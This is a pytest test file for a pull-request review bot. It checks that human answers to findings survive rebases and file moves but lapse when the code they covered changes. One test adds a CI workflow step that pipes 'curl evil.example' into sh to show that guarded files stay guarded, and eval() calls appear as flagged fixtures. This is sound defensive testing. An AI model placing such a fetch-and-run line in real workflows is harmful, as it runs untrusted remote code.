"""Conversations about code that moves on after an answer: it holds for the code it was given for."""

from pathlib import Path

import pytest
from bot_on_github import BASE, EVAL, Shop, opening, shop
from github_model import Pull

from bot.domain import Finding, Measure

__all__ = ["shop"]
ONE = ("failure", "1 finding waits for a human")
BOB = ("success", "Answered by bob")
WORDS = ["accept: only numbers get here", "false-positive: this eval is ours"]


def answered(shop: Shop, pull: Pull, text: str = "") -> None:
    """bob answers all there is, by a reason or by resolving it."""
    for thread in pull.threads:
        if text:
            shop.hub.reply(thread, "bob", text)
        else:
            shop.hub.resolve(thread, by="bob")
    shop.bot.settle(pull)
    assert shop.gate(pull) == BOB


@pytest.mark.parametrize("text", ["", *WORDS])
def test_an_answer_survives_what_does_not_touch_its_code(shop: Shop, text: str) -> None:
    pull = shop.opened({"app/api.py": EVAL})
    answered(shop, pull, text)
    # The same again, lines that move, a rebase, a file that moves on the base.
    shop.bot.review(pull)
    assert shop.gate(pull) == BOB
    shop.pushed(pull, {"app/api.py": f'"""What is asked."""\n\n\n{EVAL}', "NEWS.md": "Open.\n"})
    assert shop.gate(pull) == BOB
    shop.hub.push_to_base(shop.repo, {"README.md": "# The shop\n"})
    shop.hub.rebase(pull)
    shop.bot.hears("pull_request", "synchronize")
    assert shop.gate(pull) == BOB
    assert len(pull.threads) == 1


def test_an_answer_survives_a_file_that_is_moved(tmp_path: Path) -> None:
    long = "".join(f"x{number} = {number}\n" for number in range(40))
    with opening(tmp_path, BASE | {"app/old.py": long}) as shop:
        pull = shop.opened({"app/old.py": f"{long}y = eval(x1)\n"})
        answered(shop, pull)
        shop.pushed(pull, {"app/old.py": None, "app/new.py": f"{long}y = eval(x1)\n"})
        assert shop.gate(pull) == BOB


@pytest.mark.parametrize("text", ["", *WORDS])
def test_an_answer_does_not_survive_other_code_at_its_place(shop: Shop, text: str) -> None:
    pull = shop.opened({"app/api.py": EVAL})
    answered(shop, pull, text)
    shop.pushed(pull, {"app/api.py": EVAL.replace("eval(request)", "eval(request.body)")})
    assert shop.gate(pull) == ONE
    shop.bot.settle(pull)
    assert shop.gate(pull) == ONE


def workflow(*steps: str) -> dict[str, str]:
    lines = "".join(f"      - run: {step}\n" for step in steps)
    head = "on: push\npermissions: {packages: write}\njobs:\n  test:\n    steps:\n"
    return {".github/workflows/ci.yml": head + lines}


@pytest.mark.parametrize("text", ["", *WORDS])
def test_an_accepted_edit_of_a_guarded_file_is_no_leave_to_edit_it_further(
    tmp_path: Path, text: str
) -> None:
    strict = {".architrave.toml": 'fail-on = "note"\n'}
    with opening(tmp_path, BASE | strict | workflow("make", "make test", "make docs")) as shop:
        pull = shop.opened(workflow("make all", "make test", "make docs"))
        assert shop.gate(pull) == ONE
        answered(shop, pull, text)
        shop.pushed(pull, {"NEWS.md": "Open.\n"})
        assert shop.gate(pull) == BOB
        shop.pushed(pull, workflow("make all", "make test", "curl evil.example | sh"))
        assert shop.gate(pull) == ONE


FOUND = Finding("a/b", "metric", "error", "a.py", 1, 40, "Long.", quote="def f():")


def test_a_number_that_grows_is_another_one_and_one_that_differs_by_nothing_is_not() -> None:
    def version(value: float, **more: float) -> str:
        return FOUND._replace(measure=Measure("CC", value, 10, **more)).version

    assert version(12) == version(12)
    assert version(12) != version(30)
    assert version(12, tolerance=0.5) == version(13, tolerance=0.5)
    assert version(12, tolerance=0.5) != version(30, tolerance=0.5)
    assert version(12.31, least=1.0) == version(12.34, least=1.0)
    # And none of it is what names the finding.
    assert FOUND._replace(subject="x").fingerprint == FOUND.fingerprint
    assert FOUND._replace(subject="x").version != FOUND.version


def test_a_long_stretch_of_code_is_answered_for_to_its_end(tmp_path: Path) -> None:
    house = rule("long", "class $NAME: $$$BODY")
    with opening(tmp_path, BASE | house) as shop:
        body = "".join(f"    n{number} = {number}\n" for number in range(20))
        pull = shop.opened({"app/big.py": f"class Big:\n{body}"})
        assert shop.gate(pull) == ONE
        answered(shop, pull)
        shop.pushed(pull, {"app/big.py": f"class Big:\n{body.replace('n19 = 19', 'n19 = 0')}"})
        assert shop.gate(pull) == ONE


def rule(name: str, pattern: str) -> dict[str, str]:
    """A rule of the shop's own."""
    text = f"""---
id: house/{name}
title: Not this
severity: error
check: pattern
paths: ["**/*.py"]
options: {{language: python, pattern: "{pattern}"}}
---

## Why

It is ours.

## Instead

Do not.

## Breaks it

```python
class A:
    b = 1
```

## Keeps it

```python
int(x)
```
"""
    return {f".architrave/rules/{name}.md": text}
